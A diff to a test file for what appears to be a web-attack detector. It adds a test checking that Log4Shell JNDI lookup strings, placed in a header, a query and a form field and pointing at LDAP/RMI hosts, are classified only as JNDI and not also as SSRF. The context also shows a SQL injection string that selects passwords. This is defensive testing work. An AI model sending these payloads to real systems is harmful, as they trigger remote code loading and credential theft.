@@ -507,6 +507,19 @@ def test_benign_look_alikes_do_not_hit(cls: str, event: Event) -> None:
     assert DETECTOR.inspect(event) == [], event.payload
 
 
+@pytest.mark.parametrize(
+    "event",
+    [
+        header("X-Api-Version", "${jndi:ldap://198.51.100.9:1389/Exploit}"),
+        q("${jndi:rmi://198.51.100.9/a}"),
+        form("${jndi:ldap://x.example/a}", name="url"),
+    ],
+)
+def test_a_jndi_lookup_is_log4shell_only_not_also_ssrf(event: Event) -> None:
+    # One Log4Shell request was two detections: Log4Shell, and "SSRF: gopher/dict/ldap URL".
+    assert {h.attack_class for h in DETECTOR.inspect(event)} == {"jndi"}
+
+
 def test_hit_fields() -> None:
     [hit] = DETECTOR.inspect(q("1 UNION SELECT password FROM users", "district"))
     assert hit.attack_class == "sqli"
